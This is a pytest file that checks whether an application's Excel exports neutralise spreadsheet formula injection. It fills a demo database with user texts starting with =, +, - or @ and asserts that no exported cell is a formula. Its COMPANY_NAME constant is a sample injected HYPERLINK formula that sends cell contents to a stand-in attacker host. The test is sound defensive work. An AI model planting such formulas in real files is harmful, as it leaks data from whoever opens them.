"""Spreadsheet injection (issue 6): whatever a user typed goes out to Excel as text, never as a
formula, in every export and template the app writes.

The demo company is rewritten so that every text a user could have typed starts with =, + , - or
@ (and the company name is a formula Excel would run); then every export word of the registry is
written, each workbook is opened with openpyxl, and no cell may hold a formula while the texts
come back exactly as typed.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Enum, String, Text

from qmsdesk.core.db import Database, open_database
from qmsdesk.core.db.models import Base
from qmsdesk.core.exchange import registry

PREFIXES = ("=", "+", "-", "@")
COMPANY_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the audit")'
# Texts the app itself keeps (keys, checksums, stored paths, the history chain, JSON, catalogue
# keys), not typed by a user; the rest is rewritten.
NOT_TYPED = {
    "change_history": None,  # every column: the chain is the app's own
    "settings": {"key", "value"},
    "documents": {"search_text"},
    "revisions": {"attachment_path", "attachment_sha256"},
    "training_records": {"attachment_path", "attachment_sha256"},
    "review_inputs": {"item", "tables", "summary"},
    "review_decisions": {"item"},
    "review_minutes": {"content", "sha256"},
    "training_items": {"delivery"},
}


def typed_columns() -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for table in Base.metadata.sorted_tables:
        skip = NOT_TYPED.get(table.name, set())
        if skip is None:
            continue
        columns = [
            c.name
            for c in table.columns
            if isinstance(c.type, String | Text)
            and not isinstance(c.type, Enum)
            and not c.foreign_keys
            and c.name not in skip
        ]
        if columns:
            found[table.name] = columns
    return found


@pytest.fixture(scope="module")
def hostile_company(tmp_path_factory: pytest.TempPathFactory, _demo_master: Path) -> Path:
    """The demo company with every typed text starting with =, +, - or @."""
    path = tmp_path_factory.mktemp("injection") / "hostile.qmsdb"
    shutil.copyfile(_demo_master, path)
    db = open_database(path)
    try:
        with db.write() as session:
            conn = session.connection()
            for number, (table, columns) in enumerate(typed_columns().items()):
                sets = ", ".join(f'"{name}" = :p{i} || "{name}"' for i, name in enumerate(columns))
                params = {
                    f"p{i}": PREFIXES[(number + i) % len(PREFIXES)] for i in range(len(columns))
                }
                conn.exec_driver_sql(f'UPDATE "{table}" SET {sets}', params)
            conn.exec_driver_sql(
                "UPDATE settings SET value = ? WHERE key = 'company_name'", (COMPANY_NAME,)
            )
    finally:
        db.close()
    return path


@pytest.fixture
def hostile_db(hostile_company: Path, tmp_path: Path) -> Database:
    path = tmp_path / "hostile.qmsdb"
    shutil.copyfile(hostile_company, path)
    db = open_database(path)
    yield db  # type: ignore[misc]
    db.close()


def typed_texts(db: Database) -> set[str]:
    """Every text of the company that starts with one of the prefixes."""
    texts: set[str] = set()
    with db.read() as session:
        conn = session.connection()
        for table, columns in typed_columns().items():
            for row in conn.exec_driver_sql(f'SELECT {", ".join(columns)} FROM "{table}"'):
                texts.update(v for v in row if isinstance(v, str) and v.startswith(PREFIXES))
    return texts


def export_params(db: Database, word: str) -> dict[str, str]:
    """What an export word needs besides the file (the audit or review it is about)."""
    with db.read() as session:
        conn = session.connection()
        if word == "audit-checklist":
            ref = conn.exec_driver_sql("SELECT reference FROM audits ORDER BY id").scalar()
            return {"audit": str(ref)}
        if word == "reviews":
            ref = conn.exec_driver_sql("SELECT reference FROM reviews ORDER BY id").scalar()
            return {"review": str(ref)}
    return {}


def cells(path: Path) -> tuple[list[str], list[str]]:
    """(every formula cell as sheet!ref, every text cell's value) of a workbook."""
    formulas: list[str] = []
    texts: list[str] = []
    book = load_workbook(path)  # not read-only: it says which cells are formulas
    try:
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
                    elif isinstance(cell.value, str):
                        texts.append(cell.value)
    finally:
        book.close()
    return formulas, texts


def test_the_company_is_hostile_everywhere(hostile_db: Database) -> None:
    """A guard for the test below: the rewrite reached the registers (not just one table)."""
    texts = typed_texts(hostile_db)
    assert len(texts) > 500
    for prefix in PREFIXES:
        assert any(t.startswith(prefix) for t in texts)
    with hostile_db.read() as session:
        conn = session.connection()
        titles = [r[0] for r in conn.exec_driver_sql("SELECT title FROM documents")]
    assert titles and all(t.startswith(PREFIXES) for t in titles)


@pytest.mark.parametrize("template", [False, True], ids=["data", "template"])
@pytest.mark.parametrize("word", sorted(registry.EXPORTS))
def test_no_export_holds_a_formula(
    hostile_db: Database, tmp_path: Path, word: str, template: bool
) -> None:
    target = tmp_path / f"{word}.xlsx"
    params = export_params(hostile_db, word)
    registry.EXPORTS[word].write(hostile_db, target, template=template, **params)
    formulas, texts = cells(target)
    assert formulas == []
    if template:
        return
    typed = typed_texts(hostile_db)
    exact = [t for t in texts if t in typed]
    assert exact, f"{word}: none of the typed texts came back as typed"


def test_every_document_and_the_company_name_come_back_as_typed(
    hostile_db: Database, tmp_path: Path
) -> None:
    target = tmp_path / "documents.xlsx"
    registry.EXPORTS["documents"].write(hostile_db, target)
    book = load_workbook(target, read_only=True)
    try:
        ws = book["Documents"]
        rows = list(ws.iter_rows(values_only=True))
        header = list(rows[0])
        exported = {(r[header.index("Code")], r[header.index("Title")]) for r in rows[1:]}
        readme = [v for row in book["Read me"].iter_rows(values_only=True) for v in row if v]
    finally:
        book.close()
    with hostile_db.read() as session:
        conn = session.connection()
        stored = set(conn.exec_driver_sql("SELECT code, title FROM documents").all())
    assert exported == {tuple(r) for r in stored}
    assert any(COMPANY_NAME in str(v) for v in readme)


def test_an_exported_hostile_register_imports_back_unchanged(
    hostile_db: Database, tmp_path: Path
) -> None:
    from qmsdesk.core.exchange.workbook import Action, plan_import

    target = tmp_path / "documents.xlsx"
    registry.EXPORTS["documents"].write(hostile_db, target)
    plan = plan_import(hostile_db, target)
    assert plan.problems == []
    assert {item.action for sheet in plan.sheets for item in sheet.items} == {Action.UNCHANGED}


def test_the_check_finds_a_formula_where_there_is_one(tmp_path: Path) -> None:
    """A guard for the checks above: a text written the careless way is seen as a formula."""
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    assert ws is not None
    ws["A1"] = "=SUM(1,2)"  # openpyxl makes this a formula
    ws["B1"] = "@SUM(1,2)"
    ws["B1"].data_type = "s"
    book.save(tmp_path / "careless.xlsx")
    formulas, texts = cells(tmp_path / "careless.xlsx")
    assert formulas == ["Sheet!A1: =SUM(1,2)"]
    assert texts == ["@SUM(1,2)"]
